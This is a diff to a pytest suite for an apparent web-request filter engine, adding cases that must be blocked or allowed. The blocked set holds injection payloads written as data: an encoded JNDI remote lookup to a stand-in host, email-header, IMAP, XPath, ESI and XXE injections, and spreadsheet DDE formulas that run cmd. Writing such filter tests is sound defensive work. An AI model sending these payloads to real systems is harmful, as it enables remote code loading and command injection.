@@ -6,7 +6,7 @@ import pytest
 
 from lambdaguard.rules.engine import Engine
 
-ENGINE = Engine(["nosql", "graphql", "xpath", "ldap", "proto", "jndi", "xxe", "ssi", "csv"])
+ENGINE = Engine(["nosql", "graphql", "xpath", "ldap", "proto", "jndi", "xxe", "ssi", "csv", "mail"])
 
 
 def blocked(text: str, place: str = "query") -> bool:
@@ -55,6 +55,35 @@ def test_a_document_swells(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
+        "query Q { " + "crew(first: 9) { ship { " * 4 + "id" + " } }" * 4 + " }",
+        "{ " + "crew { ship { edges { node { " * 3 + "id" + " } } } }" * 3 + " }",
+        "{ id " + "@include(if: true) " * 6 + "}",
+        "query Many { id " + "@a @b @c @d @e @f @g @h @i @j" + " name }",
+    ],
+)
+def test_fields_in_each_other_by_turns_and_heaps_of_directives_are_blocked(text: str) -> None:
+    assert blocked(text, "body")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{ menu { items(first: 9) { label items { label items { label items { label } } } } } }",
+        "{ thread { replies { author { name } replies { author { name } replies { author { name } } } } } }",
+        "query Q($a: Boolean!, $b: Boolean!) { "
+        + " ".join(f"f{n} @include(if: $a) {{ id name @skip(if: $b) }}" for n in range(12))
+        + " }",
+        "{ page { ...on Home { rows { ...on Grid { rows { ...on Home { rows { ...on Grid { id } } } } } } } } }",
+        '{"query": "{ find(text: \\"a (b\\") { id name } other(text: \\"c)\\") { id } }"}',
+    ],
+)
+def test_trees_and_conditions_of_a_client_pass(text: str) -> None:
+    assert not blocked(text, "body")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         doubled(2),
         "query { a { ...Money } b { ...Money } } fragment Money on M { ...Unit amount } fragment Unit on U { code }",
         "{ area(points: [[[1, 2], [3, 4]], [[5, 6]]]) { size } }",
@@ -87,6 +116,19 @@ def test_a_document_of_a_client_passes(text: str) -> None:
         '<!--#elif expr="x" -->',
         '=REGISTER.ID("kernel32","WinExec")',
         'DDE("cmd";"/C env";"!A0")A0',
+        "${base64:JHtqbmRpOnJtaTovL2UuZXhhbXBsZS9hfQ==}",
+        "${env:HOME}",
+        "=?utf-8?q?ann=40a.example=3e=20?=@b.example",
+        'x"\r\nZ7 RENAME INBOX y\r\n',
+        "')]/../*[2][text()!=('",
+        "' or 2]%00",
+        "and string-to-codepoints(substring(name(/*[1]),1,1)) = 97",
+        "big<!--esi-->small",
+        '<esi:comment text="z"/>',
+        "=           cmd|'/c notepad'!A1",
+        "=rundll32andmuchmore|'URL.dll,OpenURL notepad'!A",
+        '<!DOCTYPE a [<!ENTITY b "7">]><a>&b;</a>',
+        '<!DOCTYPE a PUBLIC "-//E/F" "http://e.example/a.dtd"><a/>',
     ],
 )
 def test_what_leaves_its_place_is_blocked(text: str) -> None:
@@ -112,6 +154,9 @@ def test_what_leaves_its_place_is_blocked(text: str) -> None:
         "- name: keep it\n  shell: |\n" + "    echo one\n" * 12 + "    CONFIG SET replica-priority 10\n",
         '{"AlarmName": "a", "ComparisonOperator": "GreaterThanThreshold"}',
         "base: &base [1, 2]\nall: [*base, 3]\nmore: &more [*base, *base]",
+        "=?utf-8?q?J=C3=B6rg=22?= <j@a.example>",
+        "why is ${env:STAGE} not resolved in the name of my bucket",
+        '<!DOCTYPE module PUBLIC "-//Owner//DTD Check Configuration 1.3//EN" "https://owner.example/check.dtd"><module/>',
     ],
 )
 def test_honest_queries_and_lines_pass(text: str) -> None:
